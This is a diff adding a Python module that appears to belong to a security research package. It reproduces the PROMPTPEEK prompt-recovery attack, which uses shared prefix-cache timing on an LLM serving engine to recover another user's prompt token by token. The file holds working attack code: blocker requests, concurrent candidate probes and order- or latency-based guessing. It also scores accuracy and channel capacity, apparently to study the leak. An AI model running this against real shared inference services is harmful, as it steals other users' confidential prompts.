@@ -1,0 +1,173 @@
+"""PROMPTPEEK-style prompt recovery (Wu et al., NDSS 2025) against a ``server.ServingEngine`` over HTTP.
+
+Threat model: the attacker shares the server with a victim, knows the victim's prompt template and,
+for every secret position, a short list of candidate tokens. It recovers the secret token by token:
+
+1. send a "blocker" request (a novel prompt generating many tokens) so the server is busy;
+2. while it runs, fire one request per candidate, ``template + recovered + [candidate, filler]``, all
+   at once in a random order;
+3. with a shared prefix cache and a longest-prefix-first scheduler, the request continuing the
+   victim's cached prompt has the longest cached prefix, so it is served (and answered) first.
+   The guess is the candidate answered first (order); a second guess uses the smallest latency (TTFT).
+
+Each candidate request asks for ``candidate_new_tokens`` tokens so that consecutive answers are several
+decode steps apart, well above the client's scheduling jitter. The trailing filler token lets a full
+match on ``recovered + candidate`` count (the server reuses at most ``len(prompt) - 1`` cached tokens).
+The filler of each round is chosen outside the next round's candidates, so the attacker's own cached
+requests never tie with the victim's prompt later.
+The attacker continues from its own guesses (errors propagate, as they would for a real attacker).
+"""
+
+from __future__ import annotations
+
+import random
+import threading
+import time
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+
+from ttmem.security import stats
+from ttmem.security.server import post_json
+
+
+@dataclass
+class AttackResult:
+    """Outcome of one attack on one secret."""
+
+    truth: list[int]
+    guesses_order: list[int] = field(default_factory=list)
+    guesses_ttft: list[int] = field(default_factory=list)
+    requests: int = 0
+    latencies_ns: list[tuple[int, bool]] = field(default_factory=list)  # (latency, candidate was correct)
+
+    @property
+    def correct_order(self) -> int:
+        return sum(g == t for g, t in zip(self.guesses_order, self.truth, strict=True))
+
+    @property
+    def correct_ttft(self) -> int:
+        return sum(g == t for g, t in zip(self.guesses_ttft, self.truth, strict=True))
+
+
+def _fire(host: str, port: int, payloads: list[dict], timeout: float) -> list[tuple[int, int, int]]:
+    """Send payloads concurrently; return (status, finish time ns, latency ns) per payload."""
+    results: list[tuple[int, int, int]] = [(0, 0, 0)] * len(payloads)
+    barrier = threading.Barrier(len(payloads))
+
+    def one(i: int) -> None:
+        barrier.wait(timeout)
+        status, _, elapsed = post_json(host, port, "/generate", payloads[i], timeout)
+        results[i] = (status, time.perf_counter_ns(), elapsed)
+
+    threads = [threading.Thread(target=one, args=(i,), daemon=True) for i in range(len(payloads))]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(timeout)
+    return results
+
+
+def promptpeek(
+    host: str,
+    port: int,
+    template: Sequence[int],
+    candidates: Sequence[Sequence[int]],
+    truth: Sequence[int],
+    vocab_size: int,
+    blocker_tokens: int = 48,
+    blocker_new_tokens: int = 128,
+    candidate_new_tokens: int = 16,
+    settle_s: float = 0.02,
+    timeout_s: float = 30.0,
+    seed: int = 0,
+) -> AttackResult:
+    """Recover ``len(candidates)`` secret tokens following ``template``; ``truth`` is only used for scoring.
+
+    The blocker must outlast the firing of all candidates and consecutive candidate answers must be further
+    apart than the client's jitter: raise ``blocker_new_tokens`` / ``candidate_new_tokens`` on a loaded machine
+    (the server's ``max_new_tokens`` must allow them). Rounds are not repeated for a vote: the attacker's own
+    requests are cached after the first round and would tie with the victim's prompt.
+    """
+    if len(candidates) != len(truth) or not candidates:
+        raise ValueError("candidates must have one non-empty list per secret token (same length as truth)")
+    if any(len(c) < 2 for c in candidates):
+        raise ValueError("each candidate list needs at least two tokens")
+    rng = random.Random(seed)
+    result = AttackResult(list(truth))
+    recovered = list(template)
+    for pos, cands in enumerate(candidates):
+        following = set(candidates[pos + 1]) if pos + 1 < len(candidates) else set()
+        fillers = [t for t in range(vocab_size) if t not in following and t not in cands]
+        if not fillers:
+            raise ValueError("vocabulary too small to pick a filler outside the candidate lists")
+        filler = rng.choice(fillers)
+        blocker = {
+            "user": "attacker-blocker",
+            "prompt": [rng.randrange(vocab_size) for _ in range(blocker_tokens)],
+            "max_new_tokens": blocker_new_tokens,
+        }
+        blocker_thread = threading.Thread(
+            target=post_json, args=(host, port, "/generate", blocker, timeout_s), daemon=True
+        )
+        blocker_thread.start()
+        time.sleep(settle_s)
+        order = list(cands)
+        rng.shuffle(order)
+        payloads = [
+            {"user": "attacker", "prompt": recovered + [c, filler], "max_new_tokens": candidate_new_tokens}
+            for c in order
+        ]
+        outcomes = _fire(host, port, payloads, timeout_s)
+        blocker_thread.join(timeout_s)
+        result.requests += 1 + len(order)
+        if any(status != 200 for status, _, _ in outcomes):
+            raise RuntimeError(f"server refused attack requests: {[s for s, _, _ in outcomes]}")
+        first = min(range(len(order)), key=lambda i: outcomes[i][1])
+        fastest = min(range(len(order)), key=lambda i: outcomes[i][2])
+        result.guesses_order.append(order[first])
+        result.guesses_ttft.append(order[fastest])
+        result.latencies_ns += [(outcomes[i][2], order[i] == truth[pos]) for i in range(len(order))]
+        recovered.append(order[first])
+    return result
+
+
+@dataclass(frozen=True)
+class AttackSummary:
+    """Token recovery accuracy with 95% Wilson intervals, chance level, cost and timing-channel capacity."""
+
+    tokens: int
+    accuracy_order: float
+    ci_order: tuple[float, float]
+    accuracy_ttft: float
+    ci_ttft: tuple[float, float]
+    chance: float
+    requests_per_token: float
+    secrets_fully_recovered: float
+    capacity_bits_per_request: float
+    capacity_null_bits: float
+
+
+def summarize_attacks(results: Sequence[AttackResult], candidates_per_position: float) -> AttackSummary:
+    """Pool several attacks; capacity is that of the channel (candidate correct?) -> request latency."""
+    if not results:
+        raise ValueError("results must be non-empty")
+    tokens = sum(len(r.truth) for r in results)
+    k_order, k_ttft = sum(r.correct_order for r in results), sum(r.correct_ttft for r in results)
+    lat = [x for r in results for x in r.latencies_ns]
+    samples = {
+        "correct": [t for t, ok in lat if ok],
+        "wrong": [t for t, ok in lat if not ok],
+    }
+    cap = stats.timing_capacity(samples, permutations=50)
+    return AttackSummary(
+        tokens,
+        k_order / tokens,
+        stats.wilson_interval(k_order, tokens),
+        k_ttft / tokens,
+        stats.wilson_interval(k_ttft, tokens),
+        1.0 / candidates_per_position,
+        sum(r.requests for r in results) / tokens,
+        sum(r.correct_order == len(r.truth) for r in results) / len(results),
+        cap.bits_per_request,
+        cap.null_bits,
+    )
